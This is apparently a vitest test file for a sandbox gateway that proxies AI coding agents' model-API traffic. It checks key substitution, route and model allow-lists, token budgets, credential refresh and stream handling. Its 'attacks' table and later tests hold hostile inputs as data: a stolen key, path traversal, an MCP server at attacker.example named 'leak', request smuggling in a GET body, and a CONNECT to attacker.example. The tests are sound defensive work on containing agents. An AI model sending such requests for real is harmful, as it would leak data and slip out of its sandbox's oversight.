import { existsSync, readFileSync } from 'node:fs';
import { request } from 'node:http';
import path from 'node:path';
import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import type { GatewayRule } from '../../../../shared/sandbox/containment-policy';
import { WireExchangeSchema } from '../../../../shared/runtime/wire';
import { REPO_ROOT } from '../../../support/run-cli';
import { useTempDirs } from '../../../support/temp-dir';
import { anthropicStream, call, eventually, openAiStream, PLACEHOLDER, REAL_KEY, scriptedUpstream, startTestGateway, testCa, useGatewayCleanup, type Script } from './harness';

useGatewayCleanup();
const tempDir = useTempDirs();

const fixture = (name: string): { url: string; headers: Record<string, string>; body: Record<string, unknown> } => JSON.parse(readFileSync(path.join(REPO_ROOT, 'test/fixtures/gateway', name), 'utf8'));
const CLAUDE_A = fixture('claude-a_text.json');
const CODEX_A = fixture('codex-ollama-a_text.json');

const claudeRule = (upstream: string): GatewayRule => ({ kind: 'gateway', api: 'anthropic-messages', inside: { kind: 'http', port: 18080 }, upstream, routes: [{ method: 'POST', path: '/v1/messages' }], models: ['claude-sonnet-4-5'] });
const ollamaRule = (upstream: string): GatewayRule => ({
  kind: 'gateway',
  api: 'openai-responses',
  inside: { kind: 'http', port: 11434 },
  upstream,
  routes: [
    { method: 'GET', path: '/v1/models' },
    { method: 'GET', path: '/api/version' },
    { method: 'POST', path: '/v1/responses' },
  ],
  models: ['qwen3-coder:30b'],
});

/** Claude Code's recorded headers, carrying `key` where it carried the dummy key, plus a cookie and an account id to be dropped. */
const claudeHeaders = (key: string = PLACEHOLDER): Record<string, string> => ({ ...recordedHeaders(CLAUDE_A.headers), 'x-api-key': key, cookie: 'session=sandbox', 'chatgpt-account-id': 'acct-sandbox' });
/** A recording's headers without those the client's own request sets (framing, host). */
function recordedHeaders(headers: Record<string, string>): Record<string, string> {
  return Object.fromEntries(Object.entries(headers).filter(([name]) => name !== 'host' && name !== 'content-length'));
}
const claudeBody = (change: Record<string, unknown> = {}): string => JSON.stringify({ ...CLAUDE_A.body, ...change });

const streams =
  (body: string, contentType = 'text/event-stream'): Script =>
  (_request, response) => {
    response.writeHead(200, { 'content-type': contentType });
    response.end(body);
  };

describe('the provider gateway', () => {
  it("forwards Claude Code's recorded request with the real key (never the placeholder nor the client's auth) and witnesses the stream", async () => {
    const upstream = await scriptedUpstream(streams(anthropicStream('claude-sonnet-4-5-20250929')));
    const gateway = await startTestGateway(claudeRule(upstream.origin));
    const answer = await call(gateway, { path: CLAUDE_A.url, headers: claudeHeaders(), body: claudeBody() });

    expect(answer.status).toBe(200);
    expect(answer.body).toBe(anthropicStream('claude-sonnet-4-5-20250929'));
    const [seen] = upstream.seen;
    expect(seen?.url).toBe('/v1/messages?beta=true');
    expect(seen?.headers['x-api-key']).toBe(REAL_KEY);
    expect(seen?.headers['host']).toBe(new URL(upstream.origin).host);
    expect(seen?.headers['accept-encoding']).toBe('identity');
    expect(seen?.headers['anthropic-beta']).toBe(CLAUDE_A.headers['anthropic-beta']);
    for (const dropped of ['cookie', 'chatgpt-account-id', 'authorization']) expect(seen?.headers[dropped]).toBeUndefined();
    expect(JSON.stringify(seen?.headers)).not.toContain(PLACEHOLDER);
    expect(seen?.body.toString()).toBe(claudeBody());

    await eventually(() => gateway.exchanges.length === 1);
    const [exchange] = gateway.exchanges;
    expect(WireExchangeSchema.parse(exchange)).toMatchObject({
      method: 'POST',
      path: '/v1/messages',
      outcome: 'completed',
      refusal: null,
      status: 200,
      requested_model: 'claude-sonnet-4-5',
      // The provider answered with another model than asked: the witness records what it said.
      served_model: 'claude-sonnet-4-5-20250929',
      input_tokens: 123,
      output_tokens: 45,
    });
    expect(exchange?.first_byte_ms).toBeLessThanOrEqual(exchange?.duration_ms ?? -1);
    expect(gateway.denials).toEqual([]);
  });

  describe('refuses, before the upstream sees anything, what passes without its rule', () => {
    const attacks: readonly { name: string; call: () => { method?: string; path: string; headers: Record<string, string>; body?: string | Buffer }; status: number; refusal: string; denial: string }[] = [
      { name: 'a route outside the contract', call: () => ({ path: '/v1/files', headers: claudeHeaders(), body: '{}' }), status: 403, refusal: 'route_not_allowed', denial: 'path_not_allowed' },
      { name: 'a path that only normalizes to the route', call: () => ({ path: '/v1/x/../messages', headers: claudeHeaders(), body: claudeBody() }), status: 403, refusal: 'route_not_allowed', denial: 'path_not_allowed' },
      { name: 'another key than the placeholder', call: () => ({ path: '/v1/messages', headers: claudeHeaders('sk-ant-stolen'), body: claudeBody() }), status: 403, refusal: 'placeholder_mismatch', denial: 'placeholder_mismatch' },
      { name: 'no key to an upstream that needs one', call: () => ({ path: '/v1/messages', headers: { 'content-type': 'application/json' }, body: claudeBody() }), status: 403, refusal: 'placeholder_mismatch', denial: 'placeholder_mismatch' },
      { name: 'a compressed body', call: () => ({ path: '/v1/messages', headers: { ...claudeHeaders(), 'content-encoding': 'gzip' }, body: gzipSync(claudeBody()) }), status: 415, refusal: 'body_encoding_unsupported', denial: 'body_encoding_unsupported' },
      { name: 'a body beyond the cap', call: () => ({ path: '/v1/messages', headers: claudeHeaders(), body: claudeBody({ pad: 'p'.repeat(300_000) }) }), status: 413, refusal: 'body_too_large', denial: 'body_too_large' },
      { name: 'a body that is not JSON', call: () => ({ path: '/v1/messages', headers: claudeHeaders(), body: 'not json' }), status: 400, refusal: 'body_unparsable', denial: 'body_unparsable' },
      { name: 'another model', call: () => ({ path: '/v1/messages', headers: claudeHeaders(), body: claudeBody({ model: 'claude-opus-4-1' }) }), status: 403, refusal: 'model_not_allowed', denial: 'model_not_allowed' },
      { name: 'mcp_servers', call: () => ({ path: '/v1/messages', headers: claudeHeaders(), body: claudeBody({ mcp_servers: [{ type: 'url', url: 'https://attacker.example/sse', name: 'leak' }] }) }), status: 403, refusal: 'mcp_servers_refused', denial: 'mcp_servers_refused' },
      { name: 'a server-side web fetch tool', call: () => ({ path: '/v1/messages', headers: claudeHeaders(), body: claudeBody({ tools: [{ type: 'web_fetch_20250910', name: 'web_fetch' }] }) }), status: 403, refusal: 'server_tool_refused', denial: 'server_tool_refused' },
    ];
    for (const attack of attacks) {
      it(attack.name, async () => {
        const upstream = await scriptedUpstream(streams(anthropicStream('claude-sonnet-4-5')));
        // Straight to the provider, the request is taken: only the gateway's rule stands in the way.
        const direct = attack.call();
        expect((await call(upstream, direct)).status).toBe(200);
        expect(upstream.seen).toHaveLength(1);

        const gateway = await startTestGateway(claudeRule(upstream.origin), { maxBodyBytes: 200_000 });
        const answer = await call(gateway, attack.call());
        expect(answer.status).toBe(attack.status);
        expect(answer.body).toContain(attack.refusal);
        expect(upstream.seen).toHaveLength(1);
        expect(gateway.denials).toEqual([{ host: '127.0.0.1', port: Number(new URL(upstream.origin).port), reason: attack.denial, method: direct.method ?? 'POST', path: direct.path.split('?')[0] }]);
        await eventually(() => gateway.exchanges.length === 1);
        expect(gateway.exchanges[0]).toMatchObject({ outcome: 'refused', refusal: attack.refusal, status: null });
      });
    }

    it('a GET carrying a body (smuggled as a request of its own)', async () => {
      const upstream = await scriptedUpstream(streams('{"data":[]}', 'application/json'));
      const gateway = await startTestGateway(ollamaRule(upstream.origin), { credential: { headers: () => Promise.resolve({}) } });
      const smuggled = 'POST /api/pull HTTP/1.1\r\nHost: x\r\n\r\n';
      const answer = await call(gateway, { method: 'GET', path: '/v1/models', headers: { 'content-length': String(smuggled.length) }, body: smuggled });
      expect(answer.status).toBe(400);
      expect(upstream.seen).toEqual([]);
      expect(gateway.denials.map((denial) => denial.reason)).toEqual(['body_unparsable']);
    });
  });

  it("passes Codex's recorded Ollama traffic without any credential to a provider that takes none", async () => {
    const upstream = await scriptedUpstream((seen, response) => {
      if (seen.url === '/api/version') return void response.end('{"version":"0.13.5"}');
      if (seen.url === '/v1/models') return void response.end('{"object":"list","data":[]}');
      response.writeHead(200, { 'content-type': 'text/event-stream' });
      response.end(openAiStream('qwen3-coder:30b'));
    });
    const gateway = await startTestGateway(ollamaRule(upstream.origin), { credential: { headers: () => Promise.resolve({}) } });
    const headers = recordedHeaders(CODEX_A.headers);
    expect((await call(gateway, { method: 'GET', path: '/api/version', headers: { accept: '*/*' } })).status).toBe(200);
    expect((await call(gateway, { method: 'GET', path: '/v1/models' })).status).toBe(200);
    const answer = await call(gateway, { path: CODEX_A.url, headers, body: JSON.stringify(CODEX_A.body) });
    expect(answer.status).toBe(200);
    expect(upstream.seen.map((seen) => `${seen.method} ${seen.url}`)).toEqual(['GET /api/version', 'GET /v1/models', 'POST /v1/responses']);
    await eventually(() => gateway.exchanges.length === 3);
    expect(gateway.exchanges[2]).toMatchObject({ outcome: 'completed', requested_model: 'qwen3-coder:30b', served_model: 'qwen3-coder:30b', input_tokens: 321, output_tokens: 54 });
    expect(gateway.exchanges[0]).toMatchObject({ outcome: 'completed', requested_model: null, served_model: null, input_tokens: null });
    // A key other than the placeholder is still refused there.
    expect((await call(gateway, { method: 'GET', path: '/v1/models', headers: { authorization: 'Bearer sk-other' } })).status).toBe(403);
  });

  it('streams an SSE answer as it comes, not once it ended', async () => {
    let release = (): void => undefined;
    const released = new Promise<void>((resolve) => (release = resolve));
    const [first, ...rest] = anthropicStream('claude-sonnet-4-5').split(/(?<=\n\n)/);
    const upstream = await scriptedUpstream(async (_seen, response) => {
      response.writeHead(200, { 'content-type': 'text/event-stream' });
      response.write(first);
      await released;
      response.end(rest.join(''));
    });
    const gateway = await startTestGateway(claudeRule(upstream.origin));
    const body = await new Promise<string>((resolve, reject) => {
      const sent = request({ socketPath: gateway.socketPath, method: 'POST', path: '/v1/messages', headers: claudeHeaders(), agent: false }, (answer) => {
        let text = '';
        answer.setEncoding('utf8').on('data', (chunk: string) => {
          text += chunk;
          // The provider holds the rest back until the client has the first event.
          if (text === first) release();
        });
        answer.on('end', () => resolve(text));
      });
      sent.on('error', reject);
      sent.end(claudeBody());
    });
    expect(body).toBe(anthropicStream('claude-sonnet-4-5'));
  });

  it('refuses further requests once the witnessed tokens reach the budget, telling it once, at the first refusal', async () => {
    const upstream = await scriptedUpstream(streams(anthropicStream('claude-sonnet-4-5', 123, 45)));
    const gateway = await startTestGateway(claudeRule(upstream.origin), { budgetTokens: 300 });
    const send = () => call(gateway, { path: '/v1/messages', headers: claudeHeaders(), body: claudeBody() });
    expect((await send()).status).toBe(200);
    await eventually(() => gateway.exchanges.length === 1);
    expect((await send()).status).toBe(200);
    await eventually(() => gateway.exchanges.length === 2);
    // Crossed, but nothing was refused yet: a runtime that asks nothing more ends as it would have.
    expect(gateway.calls.budgetExceeded).toBe(0);
    for (let i = 0; i < 2; i += 1) {
      const refused = await send();
      expect(refused.status).toBe(403);
      expect(refused.body).toContain('budget_exceeded');
    }
    expect(upstream.seen).toHaveLength(2);
    expect(gateway.calls.budgetExceeded).toBe(1);
    await eventually(() => gateway.exchanges.length === 4);
    expect(gateway.exchanges.map((exchange) => exchange.refusal)).toEqual([null, null, 'budget_exceeded', 'budget_exceeded']);
  });

  it('refreshes the credential after an upstream 401 and retries once with the same body', async () => {
    let key = 'sk-ant-expired';
    const upstream = await scriptedUpstream((seen, response) => {
      if (seen.headers['authorization'] !== 'Bearer fresh-token') {
        response.writeHead(401, { 'content-type': 'application/json' });
        return void response.end('{"type":"error","error":{"type":"authentication_error","message":"expired"}}');
      }
      response.writeHead(200, { 'content-type': 'text/event-stream' });
      response.end(anthropicStream('claude-sonnet-4-5'));
    });
    let refreshes = 0;
    const gateway = await startTestGateway(claudeRule(upstream.origin), {
      credential: {
        headers: () => Promise.resolve({ authorization: `Bearer ${key}`, 'anthropic-beta': 'oauth-2025-04-20' }),
        refreshAfterUnauthorized: () => {
          refreshes += 1;
          key = 'fresh-token';
          return Promise.resolve(true);
        },
      },
    });
    const answer = await call(gateway, { path: CLAUDE_A.url, headers: claudeHeaders(), body: claudeBody() });
    expect(answer.status).toBe(200);
    expect(refreshes).toBe(1);
    expect(upstream.seen.map((seen) => seen.headers['authorization'])).toEqual(['Bearer sk-ant-expired', 'Bearer fresh-token']);
    expect(upstream.seen[1]?.body.toString()).toBe(claudeBody());
    expect(upstream.seen[1]?.headers['anthropic-beta']).toBe(`${CLAUDE_A.headers['anthropic-beta']},oauth-2025-04-20`);
    await eventually(() => gateway.exchanges.length === 1);
    expect(gateway.exchanges[0]).toMatchObject({ outcome: 'completed', status: 200 });
    expect(gateway.calls.credentialFailed).toBe(0);
  });

  it('ends with credential_unavailable when the refresh fails, telling it once', async () => {
    const upstream = await scriptedUpstream((_seen, response) => {
      response.writeHead(401, { 'content-type': 'application/json' });
      response.end('{}');
    });
    const gateway = await startTestGateway(claudeRule(upstream.origin), {
      credential: { headers: () => Promise.resolve({ authorization: 'Bearer old' }), refreshAfterUnauthorized: () => Promise.reject(new Error('token endpoint said no')) },
    });
    for (let i = 0; i < 2; i += 1) {
      const answer = await call(gateway, { path: '/v1/messages', headers: claudeHeaders(), body: claudeBody() });
      expect(answer.status).toBe(401);
      expect(JSON.parse(answer.body)).toMatchObject({ type: 'error', error: { type: 'authentication_error' } });
    }
    expect(upstream.seen).toHaveLength(2);
    expect(gateway.calls.credentialFailed).toBe(1);
    await eventually(() => gateway.exchanges.length === 2);
    expect(gateway.exchanges[0]).toMatchObject({ outcome: 'upstream_error', status: 401, refusal: 'credential_unavailable' });
  });

  it('refuses with credential_unavailable when the credential cannot be had, never reaching the upstream', async () => {
    const upstream = await scriptedUpstream(streams(anthropicStream('claude-sonnet-4-5')));
    const gateway = await startTestGateway(claudeRule(upstream.origin), { credential: { headers: () => Promise.reject(new Error('keychain locked')) } });
    for (let i = 0; i < 2; i += 1) expect((await call(gateway, { path: '/v1/messages', headers: claudeHeaders(), body: claudeBody() })).status).toBe(401);
    expect(upstream.seen).toEqual([]);
    expect(gateway.calls.credentialFailed).toBe(1);
    expect(gateway.denials.map((denial) => denial.reason)).toEqual(['credential_unavailable', 'credential_unavailable']);
  });

  it('reaches an https upstream trusting the given CA, and no upstream whose certificate it cannot verify', async () => {
    const { ca, key, cert } = testCa(tempDir());
    const upstream = await scriptedUpstream(streams(anthropicStream('claude-sonnet-4-5')), { key, cert });
    const trusting = await startTestGateway(claudeRule(upstream.origin), { upstreamCa: ca });
    expect((await call(trusting, { path: '/v1/messages', headers: claudeHeaders(), body: claudeBody() })).status).toBe(200);
    expect(upstream.seen[0]?.headers['x-api-key']).toBe(REAL_KEY);

    const untrusting = await startTestGateway(claudeRule(upstream.origin));
    await expect(call(untrusting, { path: '/v1/messages', headers: claudeHeaders(), body: claudeBody() })).rejects.toThrow();
    expect(upstream.seen).toHaveLength(1);
    await eventually(() => untrusting.exchanges.length === 1);
    expect(untrusting.exchanges[0]).toMatchObject({ outcome: 'aborted', status: null });
  });

  // Review 31: the message_start's counts are not the answer's usage (it may have been billed in full), so none is recorded.
  it('records an answer that breaks off before its completion event as aborted, with no usage', async () => {
    const stream = anthropicStream('claude-sonnet-4-5');
    const upstream = await scriptedUpstream((_seen, response) => {
      response.writeHead(200, { 'content-type': 'text/event-stream' });
      response.write(stream.slice(0, stream.indexOf('event: message_delta')));
      setTimeout(() => response.destroy(), 20);
    });
    const gateway = await startTestGateway(claudeRule(upstream.origin));
    await expect(call(gateway, { path: '/v1/messages', headers: claudeHeaders(), body: claudeBody() })).rejects.toThrow();
    await eventually(() => gateway.exchanges.length === 1);
    expect(gateway.exchanges[0]).toMatchObject({ outcome: 'aborted', status: 200, served_model: 'claude-sonnet-4-5', input_tokens: null, output_tokens: null });
  });

  it("witnesses LM Studio's non-streamed JSON answer to Codex's probe", async () => {
    const probe = fixture('codex-lmstudio-probe.json');
    const upstream = await scriptedUpstream((_seen, response) => {
      response.writeHead(200, { 'content-type': 'application/json; charset=utf-8' });
      response.end(JSON.stringify({ id: 'resp_probe', object: 'response', model: 'qwen/qwen3-coder-30b', status: 'completed', output: [], usage: { input_tokens: 12, output_tokens: 1, total_tokens: 13 } }));
    });
    const gateway = await startTestGateway(ollamaRule(upstream.origin), { credential: { headers: () => Promise.resolve({}) } });
    expect((await call(gateway, { path: probe.url, headers: recordedHeaders(probe.headers), body: JSON.stringify(probe.body) })).status).toBe(200);
    await eventually(() => gateway.exchanges.length === 1);
    expect(gateway.exchanges[0]).toMatchObject({ outcome: 'completed', requested_model: 'qwen3-coder:30b', served_model: 'qwen/qwen3-coder-30b', input_tokens: 12, output_tokens: 1 });
  });

  it('abandons the provider request when the client goes away mid-stream, and records it aborted', async () => {
    const [first] = anthropicStream('claude-sonnet-4-5').split(/(?<=\n\n)/);
    let providerSawClose = false;
    const upstream = await scriptedUpstream((_seen, response) => {
      response.writeHead(200, { 'content-type': 'text/event-stream' });
      response.write(first);
      response.once('close', () => (providerSawClose = true));
    });
    const gateway = await startTestGateway(claudeRule(upstream.origin));
    await new Promise<void>((resolve, reject) => {
      const sent = request({ socketPath: gateway.socketPath, method: 'POST', path: '/v1/messages', headers: claudeHeaders(), agent: false }, (answer) => {
        answer.once('data', () => {
          sent.destroy();
          resolve();
        });
      });
      // The destroyed request's own error is the point of the test.
      sent.on('error', () => undefined);
      sent.end(claudeBody());
      setTimeout(() => reject(new Error('no first event')), 5000);
    });
    await eventually(() => gateway.exchanges.length === 1 && providerSawClose);
    expect(gateway.exchanges[0]).toMatchObject({ outcome: 'aborted', status: 200, served_model: 'claude-sonnet-4-5' });
  });

  it('refuses CONNECT without a TLS interception, hands it to one otherwise, and removes its socket on close', async () => {
    const upstream = await scriptedUpstream(streams('{}', 'application/json'));
    const plain = await startTestGateway(claudeRule(upstream.origin));
    const status = await new Promise<number>((resolve, reject) => {
      const sent = request({ socketPath: plain.socketPath, method: 'CONNECT', path: 'attacker.example:443', agent: false });
      sent.on('response', (answer) => resolve(answer.statusCode ?? 0));
      sent.on('connect', (answer) => resolve(answer.statusCode ?? 0));
      sent.on('error', reject);
      sent.end();
    });
    expect(status).toBe(403);
    expect(plain.denials).toEqual([{ host: 'attacker.example', port: 443, reason: 'host_not_allowed' }]);

    const connects: string[] = [];
    const intercepting = await startTestGateway(claudeRule(upstream.origin), {}, {
      handleConnect: (connect, socket) => {
        connects.push(connect.url ?? '');
        socket.end('HTTP/1.1 200 Connection Established\r\n\r\n');
      },
    });
    await new Promise<void>((resolve, reject) => {
      const sent = request({ socketPath: intercepting.socketPath, method: 'CONNECT', path: 'api.openai.com:443', agent: false });
      sent.on('connect', (_answer, socket) => {
        socket.destroy();
        resolve();
      });
      sent.on('error', reject);
      sent.end();
    });
    expect(connects).toEqual(['api.openai.com:443']);

    await plain.server.close();
    expect(existsSync(path.dirname(plain.socketPath))).toBe(false);
  });
});
